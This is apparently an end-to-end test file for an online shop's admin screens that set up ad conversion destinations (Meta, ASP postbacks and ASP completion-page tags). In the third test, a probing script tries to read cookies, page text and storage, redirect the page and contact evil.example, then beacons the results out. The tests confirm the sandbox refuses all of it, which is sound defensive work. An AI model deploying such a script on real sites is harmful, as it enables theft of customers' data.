import { setTimeout as sleep } from 'node:timers/promises'
import { expect } from 'vitest'
import { ordersOf, sql } from './lib/database.ts'
import { inspect } from './lib/inspect.ts'
import { journeyInBoth } from './lib/journey.ts'
import { memberWith, newMember, orderedBy } from './lib/member.ts'
import { adminCall, signIn } from './lib/operator.ts'
import { completed, order, payCash, toConfirmation } from './lib/purchase.ts'
import { checkOut } from './lib/shopping.ts'

const sandbox = (path: string) => `${process.env.SHOP_URL}/sandbox/${path}`

interface TakenEvent {
  medium: string
  id: string
  is_test: boolean
  body: { user_data?: { em?: string[]; fbc?: string } }
}
const taken = async () =>
  ((await (await fetch(sandbox('conversions/events.json'))).json()) as { events: TakenEvent[] }).events

/** The job runs once a minute. */
async function sentEvent(find: (event: TakenEvent) => boolean): Promise<TakenEvent> {
  for (let second = 0; second < 75; second++) {
    const found = (await taken()).find(find)
    if (found) return found
    await sleep(1000)
  }
  throw new Error('no event came')
}

const clean = async () => {
  await sql('delete from order_ad_consent')
  await sql('delete from conversion_destination')
}

/** What an ASP's script could want to know of the page, and what it was told. */
const ASP_SCRIPT = `
  const got = { origin: self.origin, referrer: document.referrer }
  const attempt = (name, look) => {
    try { got[name] = String(look()) } catch (error) { got[name] = 'refused ' + error.name }
  }
  attempt('cookie', () => document.cookie)
  attempt('page', () => parent.document.body.innerText)
  attempt('storage', () => localStorage.length)
  attempt('address', () => parent.location.href)
  attempt('leads_away', () => { top.location.href = 'https://px.asp.example/away' })
  const asked = (url) => fetch(url, { credentials: 'include' }).then(({ status }) => 'got ' + status, () => 'refused')
  function send(order_no, amount, items) {
    const shop = new URL(location.href.split('/v1/')[0] + '/v1/order/public/list')
    Promise.all([asked(shop), asked('https://evil.example/')]).then(([shop, evil]) => {
      new Image().src = 'https://px.asp.example/report?' + new URLSearchParams({ ...got, order_no, amount, items, shop, evil })
    })
  }`
const TAG = `<!-- ASP -->
<script src="https://px.asp.example/t.js"></script>
<script>send("{order_no}", {amount}, "{item_codes}")</script>
<noscript><img src="https://px.asp.example/i.gif?o={order_no}"></noscript>`

journeyInBoth(
  '広告の送信先: what is missing is said beside its field, a medium is tried and switched on',
  async ({ page, step, expectProblem }) => {
    expectProblem(/^422: POST \/admin\/v1\/setting\/conversions/)
    await clean()
    try {
      step('the manager adds Meta; what is missing is said beside its field')
      await signIn(page, 'manager')
      await page.goto('/admin/setting/conversions')
      await page.getByText('送信先はまだありません', { exact: false }).waitFor()
      await inspect(page, 'admin-conversions-empty')
      await page.getByRole('link', { name: '送信先を追加する' }).click()
      await page.getByRole('button', { name: 'Meta(Facebook・Instagram)' }).click()
      await page.getByLabel(/^データセットID/).fill('12345678')
      await page.getByLabel(/^テストイベントのコード/).fill('TEST123')
      await page.getByLabel('メールアドレスを、元に戻せない形(ハッシュ)に変えて送る').check()
      await page.getByRole('button', { name: '追加する', exact: true }).click()
      await page.getByText('アクセストークンを入力してください。').waitFor()
      await inspect(page, 'admin-conversion-new-error')
      await page.getByLabel(/^アクセストークン/).fill('wrong-token')
      await inspect(page, 'admin-conversion-new')
      await page.getByRole('button', { name: '追加する', exact: true }).click()
      await page.getByRole('heading', { level: 1, name: 'Meta(Facebook・Instagram)' }).waitFor()

      step('it is tried: the answer says what is wrong, then that it is right')
      await page.getByRole('button', { name: '試しに送る' }).click()
      await page.getByText('Invalid OAuth access token', { exact: false }).waitFor()
      await inspect(page, 'admin-conversion-tried')
      await page.getByLabel(/^アクセストークン/).fill('sandbox-token')
      await page.getByRole('button', { name: '保存する', exact: true }).click()
      await page.getByText('送信先を保存しました').waitFor()
      await page.getByRole('button', { name: '試しに送る' }).click()
      await page.getByText('受け付けられました', { exact: true }).waitFor()
      expect((await taken()).filter(({ is_test }) => is_test).length).toBeGreaterThan(0)
      await page.getByRole('button', { name: '送り始める' }).click()
      await inspect(page, 'admin-conversion-start')
      await page.getByRole('dialog').getByRole('button', { name: '送り始める' }).click()
      await page.getByText('送っています').waitFor()

      step('an ASP that refuses, because a parameter is missing')
      await page.goto('/admin/setting/conversions/new')
      await page.getByRole('button', { name: 'ASPなど(サーバー通知・ポストバック)' }).click()
      await page.getByLabel(/^提供先の会社名と国/).fill('株式会社ASP(日本)')
      await page.getByLabel(/^名前/).fill('ASP')
      await page.getByLabel(/^URL/).fill(sandbox('conversions/postback'))
      await page.getByLabel(/^パラメーター必須/).fill('order={order_no}\nprice={amount_without_tax_and_fees}')
      await page.getByLabel(/^承認・否認の一覧/).fill('14')
      await page.getByText('パラメーターに使える項目').click()
      await inspect(page, 'admin-conversion-asp')
      await page.getByRole('button', { name: '追加する', exact: true }).click()
      await page.getByRole('heading', { level: 1, name: 'ASP' }).waitFor()
      await page.getByRole('button', { name: '送り始める' }).click()
      await page.getByRole('dialog').getByRole('button', { name: '送り始める' }).click()
      await page.getByText('送っています').waitFor()

      step('its list of 承認・否認')
      await inspect(page, 'admin-conversion-asp-approvals')
      const saved = page.waitForEvent('download')
      await page.getByRole('button', { name: 'CSVを出力する' }).click()
      expect((await saved).suggestedFilename()).toMatch(/^approvals-\d+-\d{4}-\d\d-01-.*\.csv$/)
    } finally {
      await clean()
    }
  },
)

journeyInBoth(
  '広告の送信先: a customer agrees to be measured, who is not asked is not, and a refusal shows in 今日',
  async ({ page, device, step }) => {
    await clean()
    await sql('update shop set click_id_flag = true where id = 2')
    try {
      await signIn(page, 'manager')
      const common = {
        conversion_moment: 'received',
        conversion_cycle: 1,
        conversion_value: 'total',
        phone_flag: false,
      }
      const meta = { pixel_id: '12345678', access_token: 'sandbox-token', event_name: 'Purchase' }
      const asp = {
        url: sandbox('conversions/postback'),
        method: 'GET',
        parameters: 'order={order_no}\nprice={amount_without_tax_and_fees}',
      }
      for (const own of [
        {
          conversion_kind: 'meta',
          destination_name: 'Meta',
          recipient_name: '',
          email_flag: true,
          account_values: meta,
        },
        {
          conversion_kind: 'postback',
          destination_name: 'ASP',
          recipient_name: '株式会社ASP(日本)',
          email_flag: false,
          account_values: asp,
        },
      ])
        await adminCall(page.request, 'POST', 'setting/conversions', { ...common, ...own })
      const rows = await sql<{ id: number }>('select id from conversion_destination')
      for (const { id } of rows) await adminCall(page.request, 'POST', `setting/conversions/${id}/start`, {})

      step('one customer is not asked, another agrees')
      const silent = await orderedBy(await newMember(), { sku: 101 })
      // Another browser: nothing of the operator is left.
      await page.goto('/robots.txt')
      await device.clearCookies()
      const member = await memberWith(device, { sku: 101 })
      await page.goto('products?adcd=AD1&fbclid=FB-1')
      // The page keeps it once its code runs.
      await page.waitForFunction(() => localStorage.getItem('kushi.ad')?.includes('FB-1'))
      await page.goto('cart')
      await checkOut(page)
      await payCash(page)
      await toConfirmation(page)
      const box = page.getByRole('checkbox', { name: /^広告の成果を測り/ })
      expect(await box.isChecked()).toBe(false)
      await box.check()
      await inspect(page, 'confirm-measured')
      await order(page)
      await completed(page)
      const { order_no } = (await ordersOf(member.email))[0]!
      const { body } = await sentEvent(({ id, medium }) => medium === 'meta' && id === order_no)
      expect(body.user_data).toMatchObject({
        em: [expect.stringMatching(/^[0-9a-f]{64}$/)],
        fbc: expect.stringMatching(/^fb\.1\.\d{13}\.FB-1$/),
      })
      expect(JSON.stringify(await taken())).not.toContain(silent)

      step('what was told, and what was refused')
      await signIn(page, 'manager')
      await page.goto('/admin/setting/conversions')
      await page.getByText('断られました 1件').waitFor()
      await inspect(page, 'admin-conversions')
      await page.getByRole('link', { name: 'ASP' }).click()
      await page.getByText('HTTP 400 NG args', { exact: false }).waitFor()
      await inspect(page, 'admin-conversion-asp-refused')
      await page.getByRole('link', { name: order_no }).waitFor()
      await page.getByRole('link', { name: order_no }).click()
      await page.getByText('広告の測定への同意', { exact: true }).waitFor()
      await inspect(page, 'admin-order-ad-consent')
      await page.getByRole('button', { name: '取り消す', exact: true }).click()
      await inspect(page, 'admin-order-ad-consent-asked')
      await page.getByRole('button', { name: '同意を取り消す' }).click()
      await page.getByText('同意を取り消しました').waitFor()

      step('今日 says that something was refused')
      await page.goto('/admin/')
      await page.getByText('広告の送信先「ASP」に、成果が断られました').waitFor()
      await inspect(page, 'admin-today-conversions')
    } finally {
      await clean()
      await sql('update shop set click_id_flag = false where id = 2')
    }
  },
)

journeyInBoth(
  '広告の送信先: an ASP’s own script runs on the completion page, and learns number and amount only',
  async ({ page, device, step, expectProblem }) => {
    expectProblem(
      /^422: POST \/admin\/v1\/setting\/conversions/,
      // What the script tries and may not.
      /Content Security Policy|sandbox|Failed to (fetch|load resource)|evil\.example|Unsafe attempt|px\.asp\.example/,
    )
    await clean()
    const asp: URL[] = []
    const headers: Record<string, string>[] = []
    let unsafeRequests = 0
    await device.route('https://px.asp.example/**', async (route) => {
      const url = new URL(route.request().url())
      asp.push(url)
      headers.push(await route.request().allHeaders())
      return url.pathname === '/t.js'
        ? route.fulfill({ contentType: 'text/javascript', body: ASP_SCRIPT })
        : route.fulfill({ status: 204 })
    })
    await device.route('https://evil.example/**', (route) => {
      unsafeRequests++
      return route.fulfill({ status: 200, body: '' })
    })
    try {
      step('the manager pastes the tag; a host that is not named is said beside it')
      await signIn(page, 'manager')
      await page.goto('/admin/setting/conversions/new')
      await page.getByRole('button', { name: 'ASPなど(完了画面のタグ)' }).click()
      await page.getByLabel(/^提供先の会社名と国/).fill('株式会社ASP(日本)')
      await page.getByLabel(/^名前/).fill('ASPのタグ')
      await page.getByLabel(/^ASPのタグ/).fill(TAG)
      await page.getByLabel(/^読み込みを許すホスト/).fill('img.asp.example')
      await page.getByRole('button', { name: '追加する', exact: true }).click()
      await page.getByText('確かめて、チェックを入れてください', { exact: false }).waitFor()
      await page.getByLabel(/^タグはASPから渡されたもので/).check()
      await page.getByRole('button', { name: '追加する', exact: true }).click()
      await page.getByText('px.asp.example は、読み込みを許すホストにありません。').waitFor()
      await inspect(page, 'admin-conversion-frame-error')
      await page.getByLabel(/^読み込みを許すホスト/).fill('px.asp.example')
      await page.getByRole('button', { name: '追加する', exact: true }).click()
      await page.getByRole('heading', { level: 1, name: 'ASPのタグ' }).waitFor()

      step('the document is shown with invented values, and nobody is asked')
      await page.getByRole('button', { name: '中身を見る' }).click()
      await page.getByText('sandbox allow-scripts', { exact: false }).waitFor()
      await inspect(page, 'admin-conversion-frame-tried')
      expect(asp).toEqual([])
      await page.getByRole('button', { name: '送り始める' }).click()
      await page.getByRole('dialog').getByRole('button', { name: '送り始める' }).click()
      await page.getByText('送っています').waitFor()

      step('a customer agrees, and orders')
      await page.goto('/robots.txt')
      await device.clearCookies()
      const member = await memberWith(device, { sku: 101 })
      await page.goto('cart')
      await checkOut(page)
      await payCash(page)
      await toConfirmation(page)
      await page.getByRole('checkbox', { name: /^広告の成果を測り/ }).check()
      await order(page)
      await completed(page)
      const report = () => asp.find(({ pathname }) => pathname === '/report')
      await expect.poll(report, { timeout: 15_000 }).toBeDefined()
      const [{ order_no, payment_total }] = (await sql<{ order_no: string; payment_total: number }>(
        `select order_no, payment_total from orders order by id desc limit 1`,
      )) as [{ order_no: string; payment_total: number }]
      expect(Object.fromEntries(report()!.searchParams)).toEqual({
        origin: 'null',
        referrer: '',
        cookie: 'refused SecurityError',
        page: 'refused SecurityError',
        storage: 'refused SecurityError',
        address: 'refused SecurityError',
        leads_away: 'refused SecurityError',
        order_no,
        amount: String(payment_total),
        items: expect.stringMatching(/^[\w-]+\.1\.\d+$/),
        shop: 'refused',
        evil: 'refused',
      })
      expect(unsafeRequests).toBe(0)
      expect(asp.map(({ pathname }) => pathname).sort()).toEqual(['/report', '/t.js'])
      for (const sent of headers) expect(sent).not.toHaveProperty('referer')
      expect(JSON.stringify([asp, headers])).not.toMatch(new RegExp(`${member.email}|kushi`, 'i'))
      const address = await page.locator('iframe[title="広告の成果"]').getAttribute('src')
      expect((await page.request.get(address!)).status()).toBe(404)
      expect(await page.locator('iframe[title="広告の成果"]').getAttribute('sandbox')).toBe('allow-scripts')
      await inspect(page, 'complete-measured')

      step('the page again: nothing is told a second time')
      await page.reload()
      await completed(page)
      await page.waitForLoadState('networkidle')
      expect(asp).toHaveLength(2)
      expect(await page.locator('iframe[title="広告の成果"]').count()).toBe(0)

      step('the shop knows that it was shown, and what the medium counted beside it')
      await sql(`insert into ad_campaign (shop_id, adcd, campaign_name, group_name) values (2, 'FRAME1', 'ASP', 'ASPのタグ')
        on conflict do nothing`)
      await sql(`insert into ad_cost (shop_id, day, adcd, yen, reported)
        select 2, (created_at at time zone 'Asia/Tokyo')::date, 'FRAME1', 1000, 2 from orders order by id desc limit 1 on conflict do nothing`)
      await sql(`update conversion_destination set ad_group = 'ASPのタグ'`)
      await signIn(page, 'manager')
      await page.goto('/admin/setting/conversions')
      await page.getByRole('rowheader', { name: '媒体の成果', exact: true }).waitFor()
      await inspect(page, 'admin-conversions-figures')
      await page.getByRole('link', { name: '1', exact: true }).first().click()
      await page.getByText('完了画面に出しました').waitFor()
      await page.getByText('すべてを見る').waitFor()
      await inspect(page, 'admin-conversion-frame-shown')
    } finally {
      await clean()
      await sql(`delete from ad_campaign where adcd = 'FRAME1'`)
      await sql(`delete from ad_cost where adcd = 'FRAME1'`)
    }
  },
)
